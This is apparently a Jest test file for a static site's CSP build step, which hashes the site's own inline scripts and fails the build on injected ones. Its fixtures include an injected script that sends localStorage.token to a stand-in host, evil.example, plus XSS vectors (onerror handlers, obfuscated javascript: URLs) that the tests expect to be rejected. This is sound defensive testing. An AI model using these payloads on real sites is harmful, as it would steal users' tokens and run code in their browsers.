/** @jest-environment node */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  COMPONENT_SCRIPTS,
  FIELD_WORDS_SCRIPT,
  LOG_MISSING_PATH_SCRIPT,
  SELECT_FROM_QUERY_SCRIPT,
} from '../../../lib/inline-scripts';
import { jsonLdScript } from '../../../lib/structured-data/serialize';
import { exportScriptHashes } from '../host-files.mjs';
import {
  FLIGHT_BOOTSTRAP,
  FLIGHT_PIECE,
  POLYFILL_SCRIPT,
  WEB_FONT_FACE,
} from '../next-output-shapes.mjs';
import { buildInlineScripts, pageScripts } from '../page-scripts.mjs';
import csp from '../steps/90-csp.mjs';
import { webFontScript } from '../steps/60-web-font-when-cached.mjs';
import { loaderTag } from '../steps/80-scripts-after-paint.mjs';

const hash = (text: string) =>
  `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
const FONT_URL = `/_next/static/media/${WEB_FONT_FACE.captures[0]}`;
const FONT = webFontScript(FONT_URL);
const LD = `<script type="application/ld+json">${jsonLdScript({ '@type': 'Physician', name: 'Ana </script><b>' })}</script>`;
const INJECTED = '<script>fetch("https://evil.example/?t="+localStorage.token)</script>';

/** A page as the steps before this one leave it: the site's own scripts, Next's polyfill, the loader. */
const page = (route: string, body = '') =>
  `<!DOCTYPE html><html><head><meta charSet="utf-8"/><script>${FONT}</script>${POLYFILL_SCRIPT.example}` +
  `${loaderTag(`${route}after-paint.js`, 'b1')}</head><body><main><h1>Hola</h1>${body}</main>${LD}</body></html>`;

const PAGES: Record<string, string> = {
  'index.html': page('/'),
  'contacto/index.html': page(
    '/contacto/',
    `<select id="contacto-servicio"></select><script>${SELECT_FROM_QUERY_SCRIPT}</script><script>${FIELD_WORDS_SCRIPT}</script>`,
  ),
  '404.html': page('/_not-found/', `<script>${LOG_MISSING_PATH_SCRIPT}</script>`),
};

function fakeExport(pages = PAGES): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'csp-step-'));
  const files = { ...pages, '_next/static/chunks/site.css': WEB_FONT_FACE.example };
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    writeFileSync(path.join(dir, file), text);
  }
  return dir;
}

const metaScripts = (html: string) =>
  html
    .match(/<meta http-equiv="Content-Security-Policy" content="[^"]*script-src ([^;]*);/)?.[1]
    ?.split(' ') ?? [];

describe('post-build step 90: the CSP allows only the scripts the build wrote', () => {
  let dir: string;
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('hashes each page’s own inline scripts into its meta, and all of them into the header; JSON-LD and files are not hashed', () => {
    dir = fakeExport();
    csp({ outDir: dir });
    const read = (file: string) => readFileSync(path.join(dir, file), 'utf8');
    expect(metaScripts(read('index.html'))).toEqual(["'self'", hash(FONT)]);
    expect(metaScripts(read('contacto/index.html'))).toEqual([
      "'self'",
      ...[hash(FONT), hash(SELECT_FROM_QUERY_SCRIPT), hash(FIELD_WORDS_SCRIPT)].sort(),
    ]);
    expect(metaScripts(read('404.html'))).toEqual([
      "'self'",
      ...[hash(FONT), hash(LOG_MISSING_PATH_SCRIPT)].sort(),
    ]);
    const all = [FONT, ...COMPONENT_SCRIPTS].map(hash).sort();
    expect(exportScriptHashes(dir)).toEqual(all);
    expect(read('_headers')).toContain(`script-src 'self' ${all.join(' ')};`);
  });

  it('fails the build on an injected inline script, naming the page and the script’s start, and writes nothing', () => {
    dir = fakeExport({
      ...PAGES,
      'servicios/index.html': page('/servicios/', `<p>Tepic${INJECTED}</p>`),
    });
    expect(() => csp({ outDir: dir })).toThrow(
      'La página servicios/index.html lleva un script que el sitio no escribió, que empieza por «<script>fetch("https://evil.example/',
    );
    expect(readFileSync(path.join(dir, 'index.html'), 'utf8')).toBe(PAGES['index.html']);
    expect(readdirSync(dir)).not.toContain('_headers');
  });

  it('refuses Next’s inline bootstrap or flight data: a Next upgrade that leaves them in a page fails, never hashed', () => {
    const inline = buildInlineScripts(fakeDir());
    const next = [
      FLIGHT_BOOTSTRAP.example,
      FLIGHT_PIECE.example,
      '<script>(self.__next_f=self.__next_f||[]).push([0,1])</script>',
    ];
    for (const script of next)
      expect(() => pageScripts(page('/', script), inline, 'index.html')).toThrow(
        /index\.html lleva un script/,
      );
  });

  it('refuses any script the build did not write: another text, attribute, type, file or unserialized JSON-LD', () => {
    const inline = buildInlineScripts(fakeDir());
    const scripts = [
      `<script id="x">${FONT}</script>`,
      `<SCRIPT>${FONT}</SCRIPT >`,
      `<script type="module">${FONT}</script>`,
      `<script>${FONT};alert(1)</script>`,
      '<script src="/admin/decap-cms.js"></script>',
      '<script src="https://evil.example/x.js"></script>',
      '<script type="application/ld+json">{"a": 1}</script>',
      '<script type="text/javascript">alert(1)</script>',
      '<scrIpt>alert(1)</scrIpt>',
    ];
    for (const script of scripts)
      expect(() => pageScripts(page('/', script), inline, 'index.html')).toThrow(
        /lleva un script que el sitio no escribió/,
      );
    expect(pageScripts(page('/'), inline, 'index.html')).toEqual([FONT]);
  });

  it('refuses an inline event handler or a javascript: URL, however it is spelled', () => {
    const inline = buildInlineScripts(fakeDir());
    const markup = [
      '<img src="x" onerror="alert(1)">',
      '<p ONCLICK = "x()">',
      '<a href="javascript:alert(1)">x</a>',
      '<a href=" JaVa&#x53;cript&colon;alert(1)">x</a>',
      "<a href='java&#9;script:alert(1)'>x</a>",
      '<form action="javascript:alert(1)"></form>',
    ];
    for (const html of markup)
      expect(() => pageScripts(page('/', html), inline, 'index.html')).toThrow(
        /lleva código que el sitio no escribió/,
      );
    // Words that only look alike are text: a link to a page about JavaScript, "on" in a value.
    expect(
      pageScripts(
        page('/', '<a href="/javascript/" title="on=off">JavaScript: on</a>'),
        inline,
        'index.html',
      ),
    ).toEqual([FONT]);
  });

  /** An export folder holding only the built CSS, for buildInlineScripts. */
  function fakeDir() {
    dir = fakeExport({});
    return dir;
  }
});
